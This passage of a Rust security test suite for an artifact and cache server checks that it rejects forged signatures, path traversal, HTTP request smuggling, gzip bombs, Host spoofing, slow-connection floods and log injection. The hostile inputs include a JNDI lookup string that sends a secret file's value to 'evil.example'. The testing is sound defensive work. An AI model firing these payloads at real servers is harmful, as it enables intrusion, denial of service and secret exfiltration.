            with_param(&link.replace(&id, id_start), "se", &format!("{id_end}{se}")),
            with_param(&link.replace(&id, &format!("{id}{}", &se[..1])), "se", &se[1..]),
            with_param(&with_param(&link, "sv", "1w"), "sp", ""),
            with_param(&with_param(&link, "sv", ""), "sp", "1w"),
            with_param(&link, "sp", "wart").replace("/blob/art/", "/blob//"),
        ] {
            assert_ne!(moved, link);
            case.put(&moved, &[], "x").await;
        }
    }
    "B063" => {
        let (server, token) = (case.server, case.job.token.clone());
        let cache = CacheJob { server, token }.create("B063").await;
        case.put(&cache.replace("/blob/cache/", "/blob/art/"), &[], "x").await;
        let write = case.create().await;
        let until_s = case.now_s() + 600;
        let papers = &case.server.app.services.papers;
        let read = papers.sign_link(BlobKind::Artifact, Permission::Read, blob_of(&write), until_s);
        case.put(&read, &[], "x").await;
        case.get(&write, &[]).await;
    }
    "B065" => {
        let link = case.create().await;
        let past_s = case.now_s() - 1;
        let papers = &case.server.app.services.papers;
        let past = papers.sign_link(BlobKind::Artifact, Permission::Write, blob_of(&link), past_s);
        case.put(&past, &[], "x").await;
        for se in ["99999999999999999999", "-1", "1e9"] {
            case.put(&with_param(&link, "se", se), &[], "x").await;
        }
    }
    "B066" => {
        let link = case.create().await;
        case.put(&with_param(&link, "sk", "unknown"), &[], "x").await;
        let services = &case.server.app.services;
        services.rotate_keys(Duration::ZERO).await.unwrap();
        services.retire_key("1", true).await.unwrap();
        case.put(&link, &[], "x").await;
        // The retired key signed the job's token, too.
        case.job = case.server.job_of("octo/demo", "B066", "build");
    }
    "B067" => {
        let link = case.create().await;
        case.stage(&link, "QQ==", b"a").await;
        case.stage(&link, "Qg==", b"bb").await;
        case.put_list(&link, block_list(&["QQ==", "Qg=="])).await;
        case.put_list(&link, block_list(&["Qg=="])).await;
        case.put(&link, &[], "whole").await;
        case.stage(&link, "QQ==", b"a").await;
        case.stage(&link, "Qg==", b"bb").await;
        let list = block_list(&["Qg==", "QQ=="]);
        assert_eq!(case.job.put(&format!("{link}&comp=blocklist"), list.clone()).await.0, 201);
        case.finalize(3).await;
        case.left.push("B067".to_owned());
        case.put_list(&link, list).await;
        case.put_list(&link, block_list(&["QQ=="])).await;
        case.put(&block_link(&link, "QQ=="), &[], "c").await;
        assert_eq!(case.job.download("B067").await, b"bba");
    }
    "B068" => {
        let link = case.create().await;
        assert_eq!(case.job.put(&link, b"x".to_vec()).await.0, 201);
        case.finalize(1).await;
        case.delete().await;
        case.put(&link, &[], "x").await;
        case.put(&block_link(&link, "QQ=="), &[], "x").await;
        case.put_list(&link, block_list(&[])).await;
        let link = case.create().await;
        case.server.advance(case.server.config.uploads.abandoned_after);
        let report = case.server.app.services.clean().await.unwrap().unwrap();
        assert!(report.abandoned_uploads > 0);
        let papers = &case.server.app.services.papers;
        let link = papers.sign_link(BlobKind::Artifact, Permission::Write, blob_of(&link), case.now_s() + 600);
        case.put(&link, &[], "x").await;
        // The first token has expired meanwhile.
        case.job = case.server.job_of("octo/demo", "B068", "build");
    }
    "B069" => {
        let write = case.create().await;
        let papers = &case.server.app.services.papers;
        let read = papers.sign_link(BlobKind::Artifact, Permission::Read, blob_of(&write), case.now_s() + 600);
        case.get(&read, &[]).await;
        assert_eq!(case.job.put(&write, b"x".to_vec()).await.0, 201);
        case.get(&read, &[]).await;
        case.finalize(1).await;
        let link = case.job.link("B069").await;
        case.delete().await;
        case.get(&link, &[]).await;
    }
    "B070" => {
        let link = case.create().await;
        for comp in ["comp=Block", "comp=copy", "comp=lease", "comp=appendblock", "comp=", "comp=block&comp=block"] {
            case.put(&format!("{link}&{comp}&blockid=QQ%3D%3D"), &[], "x").await;
        }
    }
    "B072" => {
        let link = case.create().await;
        let long = STANDARD.encode([b'x'; 65]);
        case.put(&format!("{link}&comp=block"), &[], "x").await;
        for id in ["", "not base64", &long, "Li4vLi4v"] {
            case.put(&block_link(&link, &id.replace(' ', "%20")), &[], "x").await;
        }
    }
    "B075" => {
        let link = case.create().await;
        for url in [link.clone(), block_link(&link, "QQ=="), format!("{link}&comp=blocklist")] {
            case.put(&url, &[("Transfer-Encoding", "chunked")], "5\r\nhello\r\n0\r\n\r\n").await;
        }
    }
    "B076" => {
        let link = case.create().await;
        for length in ["-1", "+5", "5,5", "5, 6", "18446744073709551616"] {
            case.put(&link, &[("Content-Length", length)], "hello").await;
        }
        case.put(&link, &[("Content-Length", "5"), ("Content-Length", "6")], "hello").await;
    }
    "B077" => {
        let link = case.create().await;
        let uploads = &case.server.config.uploads;
        for (url, limit) in [
            (block_link(&link, "QQ=="), uploads.max_block_bytes),
            (link, uploads.max_put_blob_bytes),
        ] {
            // The body never comes: the answer does not wait for it.
            case.put(&url, &[("Content-Length", &(limit + 1).to_string())], "").await;
        }
    }
    "B078" => {
        let link = case.create().await;
        let (md5, crc64) = (STANDARD.encode([0; 16]), STANDARD.encode([0; 8]));
        let short = STANDARD.encode([0; 5]);
        for headers in [
            vec![("Content-MD5", &md5[..])],
            vec![("Content-MD5", "not base64")],
            vec![("Content-MD5", &short)],
            vec![("Content-MD5", &md5), ("x-ms-content-crc64", &crc64)],
        ] {
            case.put(&block_link(&link, "QQ=="), &headers, "x").await;
        }
    }
    "B080" => {
        let link = case.create().await;
        case.put_list(&link, block_list(&vec!["QQ=="; 50_001])).await;
    }
    "B081" => {
        let link = case.create().await;
        case.stage(&link, "QQ==", b"x").await;
        case.put_list(&link, block_list(&["QQ==", "Qg=="])).await;
        case.put_list(&link, "<BlockList><Committed>QQ==</Committed></BlockList>").await;
    }
    "B082" => {
        const LIMIT: usize = 8 * 1024 * 1024;
        let link = case.create().await;
        case.put_list(&link, vec![b' '; LIMIT + 1024 * 1024]).await;
        case.put_list(&link, format!("<BlockList><{}/>", "x".repeat(LIMIT - 20))).await;
        for name in ["a", "xmlns:a"] {
            let attributes: String = (0..100_000).map(|i| format!(" {name}{i}=\"u\"")).collect();
            case.put_list(&link, format!("<BlockList{attributes}></BlockList>")).await;
        }
    }
    "B084" => {
        let link = case.create().await;
        case.stage(&link, "QQ==", b"x").await;
        let utf16: Vec<u8> = "\u{feff}<BlockList/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
        case.put_list(&link, utf16).await;
        for body in [
            "\u{feff}<BlockList><Latest>QQ==</Latest></BlockList>",
            "<BlockList><Latest>QQ==</Latest>",
            "<BlockList/><BlockList/>",
            &format!("<BlockList>{}", "<Latest>".repeat(10_000)),
            "<BlockList>text<Latest>QQ==</Latest></BlockList>",
            "<BlockList><Latest><![CDATA[QQ==]]></Latest></BlockList>",
        ] {
            case.put_list(&link, body).await;
        }
    }
    "B086" => {
        let link = case.create().await;
        case.put_list(&link, "<?xml version=\"1.0\" encoding=\"utf-8\"?><BlockList/>").await;
        case.finalize(0).await;
        case.left.push("B086".to_owned());
        assert_eq!(case.job.download("B086").await, b"");
    }
    "B087" => {
        case.not_yet("a repository's quota", "comes with quotas");
        let link = case.create().await;
        let block = vec![0; usize::try_from(MAX_ARTIFACT_BYTES / 2).unwrap()];
        for id in ["QQ==", "Qg=="] {
            case.stage(&link, id, &block).await;
        }
        case.put(&block_link(&link, "Qw=="), &[], "x").await;
        case.put_list(&link, block_list(&["QQ==", "Qg==", "QQ=="])).await;
        let length = (MAX_ARTIFACT_BYTES + 1).to_string();
        case.put(&link, &[("Content-Length", &length)], "").await;
    }
    "B088" => {
        let link = case.create().await;
        for (id, bytes) in [("QQ==", &b"PK\x03\x04"[..]), ("Qg==", b"\x7fELF"), ("Qw==", b"<html><script>")] {
            case.put(&block_link(&link, id), &[], bytes).await;
        }
    }
    "B089" => {
        case.upload(b"0123456789").await;
        let link = case.job.link("B089").await;
        let many = format!("bytes={}", vec!["0-0"; 1000].join(","));
        for (range, body) in [
            ("bytes=0-0", "0"),
            ("bytes=-1", "9"),
            ("bytes=5-", "56789"),
            ("bytes=999999999999-", ""),
            ("bytes=5-2", ""),
            ("bytes=a-b", "0123456789"),
            (&many, "0123456789"),
            ("bytes=0-18446744073709551616", "0123456789"),
        ] {
            let reply = case.get(&link, &[("Range", range)]).await;
            match reply.status {
                416 => assert_eq!(reply.header("content-range"), Some("bytes */10")),
                _ => assert_eq!(reply.text(), body, "{range}"),
            }
        }
    }
    "B090" => {
        case.upload(b"x").await;
        let link = with_param(&case.job.link("B090").await, "sig", &"A".repeat(43));
        for header in [("If-Match", "\"junk\""), ("If-None-Match", "*"), ("If-Range", "\"stale\""), ("Range", "bytes=9-")] {
            case.get(&link, &[header]).await;
        }
    }
    "B091" => {
        case.upload(b"x").await;
        let link = with_param(&case.job.link("B091").await, "sig", &"A".repeat(43));
        case.get(&link, &[]).await;
        let head = request("HEAD", target(case.server, &link), &[], b"");
        assert!(case.send(head).await.body.is_empty());
    }
    "B092" => {
        let link = case.create().await;
        let block = block_link(&link, "QQ==");
        case.put(&block, &[("x-ms-version", "1")], "x").await;
        case.put(&block, &[], "x").await;
        case.put(&block, &[("x-ms-version", &"1".repeat(10 * 1024))], "x").await;
        case.put(&link, &[("x-ms-blob-type", "PageBlob")], "x").await;
    }
    "B094" => {
        case.upload(b"x").await;
        let link = case.job.link("B094").await;
        for added in ["rscd=inline", "response-content-disposition=inline", "rsct=text/html"] {
            case.get(&format!("{link}&{added}"), &[]).await;
        }
    }
    "B100" => {
        let reply = case.cache_as(&case.cache_token(1), "CreateCacheEntry", json!({ "key": "B100" })).await.json();
        assert_eq!(reply["ok"], false);
        assert!(reply["message"].as_str().unwrap().starts_with("cache write denied:"), "{reply}");
    }
    "B101" => {
        let reply = case.cache_as(&case.cache_token(2), "GetCacheEntryDownloadURL", json!({ "key": "B101" })).await;
        assert!(reply.text().contains("cache read denied:"));
    }
    "B102" => {
        for key in ["x".repeat(513), String::new(), "a,b".into(), "a\0b".into(), "   ".into(), "🚢".repeat(512)] {
            case.cache("CreateCacheEntry", json!({ "key": key })).await;
        }
    }
    "B103" => {
        for version in ["", &"x".repeat(1024), "%"] {
            let fields = json!({ "key": "B103", "version": version });
            let reply = case.cache("GetCacheEntryDownloadURL", fields).await.json();
            assert!(reply == json!({ "ok": false }) || reply["code"] == "invalid_argument", "{reply}");
        }
    }
    "B105" => {
        let other = case.server.token("octo/other", "B105", "build");
        for (number, token) in [
            case.token_of_ref("refs/heads/feature"),
            case.token_of_ref("refs/heads/main/child"),
            case.token_of_ref("refs/tags/v1"),
            other,
            case.token_of_ref("refs/pull/8/merge"),
        ].into_iter().enumerate() {
            let key = format!("B105-{number}");
            case.save(token, &key).await;
            let pull = case.token_of_ref("refs/pull/7/merge");
            let fields = json!({ "key": key, "restore_keys": ["B105"] });
            let reply = case.cache_as(&pull, "GetCacheEntryDownloadURL", fields).await;
            assert_eq!(reply.json(), json!({ "ok": false }), "{key}");
        }
    }
    "B106" => {
        let pull = case.token_of_ref("refs/pull/7/merge");
        let other = case.server.token("octo/other", "B106", "build");
        let main = case.job.token.clone();
        let scope = json!([{ "scope": "refs/heads/main", "permission": "3" }]);
        for metadata in [json!({ "scope": scope }), json!({ "repository_id": "2", "scope": scope })] {
            let key = format!("B106-{}", case.sent);
            let fields = json!({ "key": key, "size_bytes": "1", "metadata": metadata });
            let reply = case.cache_as(&pull, "CreateCacheEntry", fields.clone()).await.json();
            assert_eq!(case.job.put(reply["signed_upload_url"].as_str().unwrap(), b"x".to_vec()).await.0, 201);
            case.cache_as(&pull, "FinalizeCacheEntryUpload", fields.clone()).await;
            case.saved += 1;
            for (token, sees) in [(&pull, true), (&main, false), (&other, false)] {
                let reply = case.cache_as(token, "GetCacheEntryDownloadURL", fields.clone()).await;
                assert_eq!(reply.json()["ok"], sees, "{metadata}");
            }
        }
    }
    "B108" => {
        let (server, token) = (case.server, case.job.token.clone());
        let job = CacheJob { server, token };
        let link = job.create("B108").await;
        case.cache("CreateCacheEntry", json!({ "key": "B108" })).await;
        assert_eq!(job.put(&link, b"x").await, 201);
        assert_eq!(job.finalize("B108", 1).await.0, 200);
        case.saved += 1;
        case.cache("CreateCacheEntry", json!({ "key": "B108" })).await;
    }
    "B109" => {
        let (server, token) = (case.server, case.job.token.clone());
        let job = CacheJob { server, token };
        let link = job.create("B109").await;
        assert_eq!(job.put(&link, b"12345").await, 201);
        for size in ["6", "21474836480", "9223372036854775808"] {
            case.cache("FinalizeCacheEntryUpload", json!({ "key": "B109", "size_bytes": size })).await;
        }
    }
    "B120" => {
        let file = format!("{}?itemPath=x%2Ff", case.v3().open("x").await);
        for range in [
            "bytes 0-9223372036854775807/*",
            "bytes 5-4/10",
            "bytes -1-5/10",
            "bytes 0-9/5",
            "bytes a-b/c",
        ] {
            case.files("PUT", &file, &[("Content-Range", range)], "0123456789").await;
        }
        case.files("PUT", &file, &[], "0123456789").await;
        let range = ("Content-Range", "bytes 0-9/10");
        case.files("PUT", &file, &[range, range], "0123456789").await;
        // And one that does not fit to the body.
        case.files("PUT", &file, &[range], "01234").await;
    }
    "B122" => {
        let container = case.v3().open("a").await;
        let (long, deep) = (format!("a%2F{}", "b".repeat(4096)), format!("a{}", "%2Fb".repeat(299)));
        for path in [
            "..%2F..%2Fx",
            "%2Fetc%2Fpasswd",
            "a%2F..%2F..%2Fb",
            "a%5C..%5Cb",
            "%2e%2e%2F",
            "a%2F.%2Fb",
            "a%2F%2Fb",
            "a%2Fb%00c",
            &long,
            &deep,
            "C%3Ax",
            "%5C%5C%3F%5C",
            "other%2Fb",
            "a",
        ] {
            let file = format!("{container}?itemPath={path}");
            case.files("PUT", &file, &[("Content-Range", "bytes 0-0/1")], "x").await;
        }
        assert!(case.v3().items(&container, "a").await.is_empty());
    }
    "B123" => {
        let job = case.v3();
        let container = job.open("bomb").await;
        let bomb = gzip(&vec![0; 64 << 20]);
        assert_eq!(job.part(&container, "bomb/f", &bomb, 0, bomb.len(), Some(10)).await.0, 201);
        let items = case.files("GET", &format!("{container}?itemPath=bomb"), &[], "").await;
        assert!(items.text().contains("\"fileLength\":10,"), "{}", items.text());
        let items = job.items(&container, "bomb").await;
        let file = items[0]["contentLocation"].as_str().unwrap();
        let (status, encoding, content) = job.get(file).await;
        assert_eq!((status, encoding.as_deref()), (200, Some("gzip")));
        assert!(content == bomb);
    }
    "B125" => {
        case.not_yet("on REST", "comes with REST");
        let artifacts = case.v3().artifacts();
        let packed = [JSON, ("Content-Encoding", "gzip")];
        case.files("POST", &artifacts, &packed, b"\x1f\x8b\x08\0\0\0\0\0\0\x03").await;
        let bearer = format!("Bearer {}", case.job.token);
        let headers = [JSON, ("Authorization", &bearer), ("Content-Encoding", "gzip")];
        case.post_with("ListArtifacts", &headers, b"\x1f\x8b\x08\0\0\0\0\0\0\x03").await;
    }
    "B126" => {
        let file = format!("{}?itemPath=x%2Ff", case.v3().open("x").await);
        let range = ("Content-Range", "bytes 0-9/10");
        for length in ["-1", "1e9", "9223372036854775808", ""] {
            let headers = [range, ("Content-Encoding", "gzip"), ("x-tfs-filelength", length)];
            case.files("PUT", &file, &headers, "0123456789").await;
        }
        case.files("PUT", &file, &[range, ("x-tfs-filelength", "11")], "0123456789").await;
        case.files("PUT", &file, &[range, ("Content-Encoding", "gzip")], "0123456789").await;
    }
    "B127" => {
        let artifacts = case.v3().artifacts();
        let other = V3(case.server.job_of("octo/demo", "1270", "build"));
        let container = other.open("theirs").await;
        case.files("POST", &other.artifacts(), &[JSON], r#"{"Type":"actions_storage","Name":"x"}"#).await;
        case.files("GET", &format!("{container}?itemPath=theirs"), &[], "").await;
        case.v3().open("mine").await;
        case.files("PATCH", &format!("{artifacts}&artifactName=mine"), &[JSON], r#"{"Size":1}"#).await;
    }
    "B128" => {
        let job = case.v3();
        let container = job.open("many").await;
        for path in ["many/README", "many/readme", "many/3", "many/4", "many/5"] {
            job.put(&container, path, path.as_bytes(), None).await;
        }
        let range = ("Content-Range", "bytes 0-0/1");
        case.files("PUT", &format!("{container}?itemPath=many%2F6"), &[range], "6").await;
        let items = case.files("GET", &format!("{container}?itemPath=many"), &[], "").await;
        assert_eq!(items.text().matches("\"path\":\"many/README\"").count(), 1);
        assert_eq!(items.text().matches("\"path\":\"many/readme\"").count(), 1);
    }
    "B129" => {
        let (server, token) = (case.server, case.job.token.clone());
        let job = CacheJob { server, token };
        let id = job.v1_reserve("B129").await;
        assert_eq!(job.v1_chunk(id, "bytes 0-4/*", b"12345").await.0, 204);
        assert_eq!(job.v1_commit(id, 5).await.0, 204);
        case.saved += 1;
        let range = [("Content-Range", "bytes 0-4/*")];
        case.cache_v1("PATCH", &format!("caches/{id}"), &range, "other").await;
        for keys in ["a,b,c,d,e,f,g,h,i,j,k", "", &"x".repeat(5 * 1024)] {
            case.cache_v1("GET", &format!("cache?keys={keys}&version={VERSION}"), &[], "").await;
        }
        case.cache_v1("PATCH", "caches/-1", &range, "other").await;
    }
    "B140" => {
        let bearer = format!("Bearer {}", case.job.token);
        let message = case.message(json!({ "name": "x", "version": 4 })).to_string();
        let (own, evil) = (twirp("CreateArtifact"), format!("http://evil.com{}", twirp("CreateArtifact")));
        for (target, header) in [
            (&own, ("Host", "evil.com")),
            (&own, ("X-Forwarded-Host", "evil.com")),
            (&own, ("X-Forwarded-Proto", "javascript")),
            (&own, ("Forwarded", "host=evil.com")),
            (&evil, ("Host", "evil.com")),
        ] {
            let headers = [JSON, ("Authorization", &bearer), header];
            let reply = case.send(request("POST", target, &headers, message.as_bytes())).await.json();
            let link = reply["signed_upload_url"].as_str().unwrap();
            assert!(link.starts_with(&format!("{}/blob/art/", case.server.url)), "{link}");
        }
    }
    "B141" => {
        case.upload(b"kept").await;
        let bearer = case.job.token.clone();
        let head = |method| format!(
            "POST {} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nAuthorization: Bearer {bearer}\r\n",
            twirp(method)
        );
        let delete = case.message(json!({ "name": "B141" })).to_string();
        let delete = format!(
            "{}Connection: close\r\nContent-Length: {}\r\n\r\n{delete}",
            head("DeleteArtifact"),
            delete.len()
        );
        let list = case.message(json!({})).to_string();
        let chunked = format!("{:x}\r\n{list}\r\n0\r\n\r\n", list.len());
        let both = format!("Content-Length: {}", chunked.len() + delete.len());
        for framing in [
            &format!("{both}\r\nTransfer-Encoding: chunked"),
            &format!("Transfer-Encoding: chunked\r\n{both}"),
            &format!("X: x\nTransfer-Encoding: chunked\r\n{both}"),
            "Transfer-Encoding: chunked, identity",
            "Transfer-Encoding: identity, chunked",
            "Transfer-Encoding : chunked",
            "Transfer-Encoding: \x0bchunked",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
            "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding:\r\n chunked",
            "Content-Length: 0x10",
            "Content-Length: 2\r\nContent-Length: 3",
        ] {
            case.send_raw(format!("{}{framing}\r\n\r\n{chunked}{delete}", head("ListArtifacts"))).await;
            assert_eq!(case.job.names().await, ["B141"], "{framing}");
        }
        let bare = chunked.replace("\r\n", "\n");
        let framing = "Transfer-Encoding: chunked";
        case.send_raw(format!("{}{framing}\r\n\r\n{bare}{delete}", head("ListArtifacts"))).await;
        assert_eq!(case.job.names().await, ["B141"]);
        // Behind a request whose end is clear, it is a request.
        let both = format!("{}{framing}\r\n\r\n{chunked}{delete}", head("ListArtifacts"));
        case.receive(both.as_bytes()).await;
        assert_eq!(case.job.names().await, [""; 0]);
        case.left.clear();
    }
    "B143" => {
        let lines = (0..98).map(|i| format!("x-{i}: x\r\n")).collect::<String>();
        let get = |target: &str, lines: &str| {
            format!("GET {target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n{lines}\r\n")
        };
        case.send_raw(get("/", &format!("{lines}x-98: x\r\n"))).await;
        case.send_raw(get("/", &format!("x: {}\r\n", "x".repeat(70 * 1024)))).await;
        case.send_raw(get(&format!("/{}", "x".repeat(9 * 1024)), &lines)).await;
        case.send_raw(get(&format!("/{}", "x".repeat(70 * 1024)), "")).await;
        case.send_raw(get("/", "x y: x\r\n")).await;
        case.send_raw(get("/", "x: x\0\r\n")).await;
    }
    "B144" => {
        slow(case).await;
    }
    "B146" => {
        case.send_raw("GET /\r\n\r\n").await;
        case.send_raw("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await;
        case.send_raw("PRI junk\r\n\r\n").await;
        case.send_raw(b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03\r\n\r\n").await;
        for target in ["CONNECT evil.example:443", "TRACE /", "OPTIONS *"] {
            let request = format!("{target} HTTP/1.1\r\nHost: localhost\r\nX-Secret: echo\r\nConnection: close\r\n\r\n");
            let reply = case.send_raw(request).await.unwrap();
            assert_eq!(reply.json(), json!({ "message": "Not Found" }), "{target}");
        }
    }
    "B148" => {
        let link = case.create().await;
        let forged = with_param(&link, "sig", &"A".repeat(43));
        let bearer = format!("Bearer {}", case.job.token);
        let block = block_link(&link, "QUFB");
        for (method, target, headers) in [
            ("PUT", target(case.server, &forged), vec![("x-ms-blob-type", "BlockBlob")]),
            ("PUT", target(case.server, &block), vec![]),
            ("POST", &twirp("CreateArtifact"), vec![JSON, ("Authorization", &bearer)]),
        ] {
            let length = [("Content-Length", "1073741824")];
            let head = request(method, target, &[&headers[..], &length].concat(), b"");
            let (reply, sent) = endless(&case.server.url, &head).await;
            println!("B148: {} after {sent} bytes", reply.status);
            assert!(sent < 1024 * 1024, "B148: the server took {sent} bytes");
            case.judge(&head, &reply);
        }
    }
    "B159" => {
        for path in ["/metrics", "/debug/pprof", "/.env", "/.git/config", "/minio/bootstrap/v1/verify"] {
            let reply = case.send(request("GET", path, &[], b"")).await;
            assert_eq!(reply.json(), json!({ "message": "Not Found" }), "{path}");
        }
    }
    "B161" => {
        let other = case.server.job_of("octo/demo", "B161", "other");
        for number in 0..MAX_PENDING_PER_RUN {
            let job = if number < MAX_PER_JOB { &case.job } else { &other };
            job.create(&format!("pending-{number}")).await;
        }
        let over = json!({ "name": "over", "version": 4 });
        let reply = case.call("CreateArtifact", over).await;
        assert!(reply.text().contains("insufficient usage"), "{}", reply.text());
        // Once more the same is no further one, what is finalized does not count, and other runs count for themselves.
        let last = format!("pending-{}", MAX_PENDING_PER_RUN - 1);
        other.upload(&last, b"x").await;
        case.left.push(last);
        other.create("room again").await;
        case.server.job_of("octo/demo", "B161-2", "build").create("x").await;
    }
    "B162" => {
        let server = TestServer::start(case.backend).await;
        let link = server.job().create("B162").await;
        server.job().upload("read", b"x").await;
        let read = server.job().link("read").await;
        server.app.services.db.close().await;
        for number in 0..200 {
            let (method, link) = match number % 4 {
                0 => ("PUT", block_link(&link, "QUFB")),
                1 => ("PUT", format!("{link}&comp=blocklist")),
                2 => ("GET", read.clone()),
                _ => ("HEAD", read.clone()),
            };
            let forged = with_param(&link, "sig", &URL_SAFE_NO_PAD.encode([u8::try_from(number).unwrap(); 32]));
            let bytes = request(method, target(&server, &forged), &[], b"x");
            let reply = tokio::time::timeout(ANSWER_WITHIN, exchange(&server.url, &bytes)).await.unwrap();
            case.judge(&bytes, &reply);
        }
        // A good one needs it.
        let good = exchange(&server.url, &request("GET", target(&server, &read), &[], b"")).await;
        assert!(good.status >= 500, "{good:?}");
        server.stop().await;
    }
    "B163" => {
        let PublicIssuers { key, keys } = case.issuers;
        let before = keys.requests();
        let claims = case.claims(json!({ "iss": "https://ghes.example" }));
        for number in 0..500 {
            let header = json!({ "alg": key.algorithm, "kid": format!("{number}") });
            case.list_as(&key.sign(&header, &claims)).await;
        }
        assert!(keys.requests() <= before + 1, "{before}, then {}", keys.requests());
        // Nor did they lock out who has a good one.
        let good = Job {
            token: key.sign(&key.header(), &claims),
            ..case.server.job_of("octo/demo", case.row.id, "build")
        };
        assert_eq!(good.names().await, [""; 0]);
    }
    "B164" => {
        odd_headers(case).await;
    }
}

/// B144, on a server that is as impatient as a test.
async fn slow(case: &mut Case<'_>) {
    let server = TestServer::start_with(case.backend, |config| {
        bounds::one_stream(config);
        config.server.head_timeout = SHORT;
        config.server.idle_timeout = SHORT;
        config.server.body_idle_timeout = SHORT;
        config.server.max_connections = 10;
    })
    .await;
    let job = server.job();
    let mut silent = bounds::connect(&server).await;
    assert_eq!(bounds::rest(&mut silent).await, b"");
    case.compare(CLOSED, "no bytes");

    let mut slow = bounds::connect(&server).await;
    trickle(&mut slow).await;
    assert_eq!(bounds::rest(&mut slow).await, b"");
    case.compare(CLOSED, "a head byte by byte");

    let mut slow = bounds::connect(&server).await;
    let bearer = format!("Bearer {}", job.token);
    let headers = [JSON, ("Authorization", &bearer), ("Content-Length", "100000")];
    let head = request("POST", &twirp("CreateArtifact"), &headers, b"");
    slow.write_all(&head).await.unwrap();
    let (mut reader, mut writer) = slow.split();
    let mut reply = Vec::new();
    let reading = tokio::time::timeout(bounds::PATIENCE, reader.read_to_end(&mut reply));
    let (_, ended) = tokio::join!(trickle(&mut writer), reading);
    // An error is an end as well, if the reply came before it.
    let _ = ended.expect("the server closes");
    case.judge(&head, &Reply::parse(&reply));

    // More than the sockets between can hold.
    let bytes = vec![7; 32 << 20];
    job.upload("large", &bytes).await;
    let link = job.link("large").await;
    let mut deaf = bounds::connect(&server).await;
    deaf.write_all(&request("GET", target(&server, &link), &[], b""))
        .await
        .unwrap();
    deaf.read_exact(&mut [0; 12]).await.unwrap();
    let other = tokio::time::timeout(bounds::PATIENCE, job.download("large")).await;
    assert!(other.expect("the deaf one loses its place") == bytes);
    assert!(bounds::rest(&mut deaf).await.len() < bytes.len(), "cut, not served");
    case.compare(CLOSED, "a response that is hardly read");

    let mut idle = Vec::new();
    for _ in 0..30 {
        idle.push(bounds::connect(&server).await);
    }
    let served = tokio::time::timeout(bounds::PATIENCE, job.names()).await;
    assert_eq!(served.expect("idle connections give way"), ["large"]);
    for socket in &mut idle {
        assert_eq!(bounds::rest(socket).await, b"");
    }
    case.compare(CLOSED, "idle connections");
    server.stop().await;
}

/// Writes byte after byte until the server will have no more.
async fn trickle(writer: &mut (impl AsyncWriteExt + Unpin)) {
    let begun = Instant::now();
    while writer.write_all(b"G").await.is_ok() {
        assert!(begun.elapsed() < bounds::PATIENCE, "the server waits for ever");
        tokio::time::sleep(SHORT / 20).await;
    }
}

/// Sends a head and then zeros for as long as the server takes them. Returns the reply, and how many that were.
async fn endless(origin: &str, head: &[u8]) -> (Reply, usize) {
    let socket = TcpSocket::new_v4().unwrap();
    // What lies in the sockets was not taken by the server.
    socket.set_send_buffer_size(64 * 1024).unwrap();
    let address = origin.strip_prefix("http://").unwrap().parse().unwrap();
    let mut socket = socket.connect(address).await.unwrap();
    let (mut reader, mut writer) = socket.split();
    writer.write_all(head).await.unwrap();
    let sending = async {
        let mut sent = 0;
        while let Ok(bytes) = writer.write(&[0; 16 * 1024]).await {
            sent += bytes;
        }
        sent
    };
    let mut received = Vec::new();
    let both = async { tokio::join!(sending, reader.read_to_end(&mut received)) };
    let (sent, _) = tokio::time::timeout(ANSWER_WITHIN, both).await.expect("reply and end");
    (Reply::parse(&received), sent)
}

/// B164, on a server whose log can be read.
async fn odd_headers(case: &mut Case<'_>) {
    let directory = tempfile::tempdir().unwrap();
    let s3 = (case.backend == Backend::PostgresS3).then(S3Server::start);
    let mut environment = Environment::on(case.backend, directory.path(), s3.as_ref()).await;
    environment.set(
        "WHARFINGER_CONFIG",
        issuer::config_file(directory.path(), "forge").display(),
    );
    let process = Process::start(&environment);
    let bearer = format!("Bearer {}", process.token("octo/demo", "B164", "build"));
    let list = case.message(json!({})).to_string();
    let good = |bearer: &str, name: &str, value: &str| {
        let headers = [JSON, ("Authorization", bearer), (name, value)];
        request("POST", &twirp("ListArtifacts"), &headers, list.as_bytes())
    };
    let mut requests = Vec::new();
    for name in ["User-Agent", "x-request-id", "traceparent"] {
        for value in [
            "a\r\nlevel: admin",
            &"x".repeat(8 * 1024),
            "${jndi:ldap://evil.example/${env:WHARFINGER_SECRET_FILE}}",
            "\"},{\"level\":\"admin\"",
            "\u{2028}{\"level\":\"admin\"}\u{85}",
        ] {
            requests.push(good(&bearer, name, value));
        }
    }
    requests.push(request("GET", "/%0a%7b%22level%22:%22admin%22%7d\"\\", &[], b""));
    // Of the process's own clock: other rows may have moved the test's.
    let now_ms = Clock::System.now_ms();
    let mut claims = issuer::claims("forge", "octo/demo", "B164", "build", now_ms);
    claims["actor"] = json!("\n{\"level\":\"admin\"}");
    let actor = forge_token(issuer::HEADER, &claims.to_string());
    requests.push(good(&format!("Bearer {actor}"), "User-Agent", "x"));
    let logged = requests.len();
    for control in ["\x1b[2J", "\x7f"] {
        requests.push(good(&bearer, "User-Agent", control));
    }
    for bytes in &requests {
        let reply = tokio::time::timeout(ANSWER_WITHIN, exchange(&process.url, bytes))
            .await
            .unwrap();
        case.judge(bytes, &reply);
    }
    let mut lines = 0;
    for line in process.log_to_its_end() {
        let entry: Value = serde_json::from_str(&line).unwrap_or_else(|error| panic!("{error}: {line}"));
        assert!(["INFO", "WARN"].contains(&entry["level"].as_str().unwrap()), "{line}");
        assert!(
            line.len() < 16 * 1024 && !line.contains('\u{2028}') && !line.contains('\x7f'),
            "{line}"
        );
        lines += usize::from(entry["message"] == "request");
    }
    assert_eq!(lines, logged, "one line each");
}

/// Whether `id` lies in `from..=to`; `B033b` lies between `B033` and `B034`.
fn within(id: &str, from: &str, to: &str) -> bool {
    (from..=to).contains(&id)
}

async fn play_all(backend: Backend) {
    let rows: Vec<Row> = TABLE.lines().skip(1).map(Row::parse).collect();
    for id in CODED {
        assert!(
            rows.iter().any(|row| row.id == *id),
            "{id} has code and is not in the table"
        );
    }
    let key = KeyPair::generate(Algorithm::RS256, "key of the issuer");
    let keys = KeySetServer::start(Answer::Text(issuer::key_set(&[&key]))).await;
    let issuers = PublicIssuers { key, keys };
    let server = TestServer::start_with(backend, |config| {
